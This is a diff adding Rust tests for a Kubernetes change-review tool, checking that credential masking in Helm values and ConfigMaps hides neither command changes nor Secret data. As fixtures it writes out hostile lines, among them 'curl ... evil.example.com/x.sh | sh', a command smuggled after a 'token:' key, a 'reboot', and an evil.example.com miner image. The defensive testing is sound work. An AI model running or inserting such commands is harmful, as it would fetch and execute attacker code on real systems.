@@ -745,3 +745,159 @@ async fn review15_finding_question_kind_secret_hides_data() {
     .await;
     assert!(missing.is_empty(), "{}", missing.join("\n"));
 }
+
+fn script(line: &str) -> String {
+    format!("initScript: |\n  set -e\n  {line}\n  echo done\n")
+}
+
+/// FINDING Q5 (question hides a change): the masking of Helm values reads a script line inside
+/// a block scalar as a `key: value` line when a credential word stands before its first `: `
+/// (`curl -H "Authorization: Bearer $TOKEN" https://…` is key `curl -H "Authorization`), or
+/// when it starts with a credential's name (`token: …; curl …`), and hides the rest of the
+/// line and every deeper line (`password: x` then an indented command). The person reads
+/// "1 credential-like value(s) change, not shown" while the script fetches another URL or
+/// reboots.
+#[tokio::test]
+#[ignore = "issue 19, open (fifteenth review): a script line read as a credential's key hides a command change from the question"]
+async fn review15_finding_question_script_line_read_as_a_credential() {
+    let missing = question_cases(&[
+        (
+            "q1 a curl line with an Authorization header: the URL after it changes",
+            &script("curl -fsSL -H \"Authorization: Bearer $TOKEN\" https://repo.example.com/install.sh | sh"),
+            &script("curl -fsSL -H \"Authorization: Bearer $TOKEN\" https://evil.example.com/x.sh | sh"),
+            "evil.example.com",
+        ),
+        (
+            "q3 a `token:` member beginning a script line, a command after `;`",
+            &script("token: $(cat /run/t); curl https://repo.example.com/i.sh | sh"),
+            &script("token: $(cat /run/t); curl https://evil.example.com/x.sh | sh"),
+            "evil.example.com",
+        ),
+        (
+            "q4 a command indented under a `password:` line inside a block scalar",
+            "initScript: |\n  password: x\n    true\n",
+            "initScript: |\n  password: x\n    reboot\n",
+            "reboot",
+        ),
+    ])
+    .await;
+    assert!(missing.is_empty(), "{}", missing.join("\n"));
+}
+
+/// Held: a header, a `proxy_set_header` and a `--password` flag on a changed line hide only
+/// the credential; the rest of the line's change is shown.
+#[tokio::test]
+async fn review15_question_credential_beside_a_change_held() {
+    let missing = question_cases(&[
+        (
+            "q2 a curl line with an X-Api-Key header, unquoted",
+            &script("curl -H X-Api-Key:\\ $KEY https://repo.example.com/install.sh | sh"),
+            &script("curl -H X-Api-Key:\\ $KEY https://evil.example.com/x.sh | sh"),
+            "evil.example.com",
+        ),
+        (
+            "q5 an Authorization header line in an nginx config, the upstream after it",
+            "nginx.conf: |\n  proxy_set_header Authorization \"Basic abc\"; proxy_pass http://good.internal;\n",
+            "nginx.conf: |\n  proxy_set_header Authorization \"Basic abc\"; proxy_pass http://evil.example.com;\n",
+            "evil.example.com",
+        ),
+        (
+            "q6 --password flag then an image flag on one line",
+            "args: \"--password hunter2 --image nginx\"\n",
+            "args: \"--password hunter2 --image evil.example.com/miner\"\n",
+            "evil.example.com/miner",
+        ),
+    ])
+    .await;
+    assert!(missing.is_empty(), "{}", missing.join("\n"));
+}
+
+fn text_unplaced_secret() -> Vec<LiveShape> {
+    vec![
+        (
+            "m16 ConfigMap text: a Secret as a flow map after a document marker",
+            config_map(
+                "r15-m16",
+                json!({"objects.yaml": "--- {apiVersion: v1, kind: Secret, metadata: {name: db}, stringData: {conn: R15m16}}\n"}),
+            ),
+            &["R15m16"],
+        ),
+        (
+            "m17 ConfigMap text: a block Secret, then a document the line reading cannot place",
+            config_map(
+                "r15-m17",
+                json!({"objects.yaml": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  conn: R15m17\n--- {apiVersion: v1, kind: ConfigMap, metadata: {name: c}}\n"}),
+            ),
+            &["R15m17"],
+        ),
+        (
+            "m19 ConfigMap text: a block Secret, then a plain root scalar document",
+            config_map(
+                "r15-m19",
+                json!({"objects.yaml": "apiVersion: v1\nkind: Secret\nstringData:\n  conn: R15m19\n---\njust a note\n"}),
+            ),
+            &["R15m19"],
+        ),
+    ]
+}
+
+/// FINDING M1: a string of several lines in any object (a ConfigMap's `objects.yaml`) is
+/// masked by the Helm values reading only when that reading places every line
+/// (`masked_if_yaml`); otherwise it is left to the text scrubber, which knows no Secret's
+/// data. One valid line the reading cannot place — a document marker followed by a flow map
+/// (`--- {…}`), a plain scalar as a document — anywhere in the text, and a Secret written
+/// out in it, in block style, keeps its data. (Helm values in that case are hidden whole.)
+#[tokio::test]
+#[ignore = "issue 19, open (fifteenth review): one unplaced YAML line turns off the masking of a Secret in a ConfigMap's text"]
+async fn review15_finding_text_the_reading_cannot_place_keeps_a_secret() {
+    assert_none(leaks_in_live(&text_unplaced_secret()).await);
+}
+
+fn masking_held_3() -> Vec<LiveShape> {
+    vec![
+        (
+            "m01 values: a block key escaped in double quotes",
+            helm_app("r15-m01", "db:\n  host: db\n  \"p\\x61ssword\": R15m01\n"),
+            &["R15m01"],
+        ),
+        (
+            "m03 values: a block key with a JSON-style escape",
+            helm_app("r15-m03", "db:\n  \"\\u0070assword\": R15m03\n"),
+            &["R15m03"],
+        ),
+        (
+            "m18 ConfigMap: a Secret as JSON text after a byte order mark",
+            config_map(
+                "r15-m18",
+                json!({"secret.json": format!("\u{feff}{}", secret_json("R15m18"))}),
+            ),
+            &["R15m18"],
+        ),
+        (
+            "m21 Application valuesObject holding a Secret object",
+            app_with_source(
+                "r15-m21",
+                json!({"repoURL": "https://charts.example.com", "chart": "api", "targetRevision": "1.0.0",
+                       "helm": {"valuesObject": {"extraObjects": [{"apiVersion": "v1", "kind": "Secret", "stringData": {"conn": "R15m21"}}]}}}),
+            ),
+            &["R15m21"],
+        ),
+        (
+            "m22 ApplicationSet elementsYaml with an escaped key",
+            json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "ApplicationSet",
+                   "metadata": {"name": "r15-m22", "namespace": "argocd"},
+                   "spec": {"generators": [{"list": {"elementsYaml": "- cluster: a\n  \"t\\x6fken\": R15m22\n"}}],
+                            "template": {"metadata": {"name": "x"}, "spec": {"project": "default",
+                                "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"},
+                                "source": {"repoURL": "https://git.example.com/a.git", "path": "k"}}}}}),
+            &["R15m22"],
+        ),
+    ]
+}
+
+/// Held: escaped keys in block Helm values and `elementsYaml`, a Secret as JSON after a byte
+/// order mark, a Secret object in `valuesObject`.
+#[tokio::test]
+async fn review15_masking_held_3() {
+    assert_none(leaks_in_live(&masking_held_3()).await);
+}
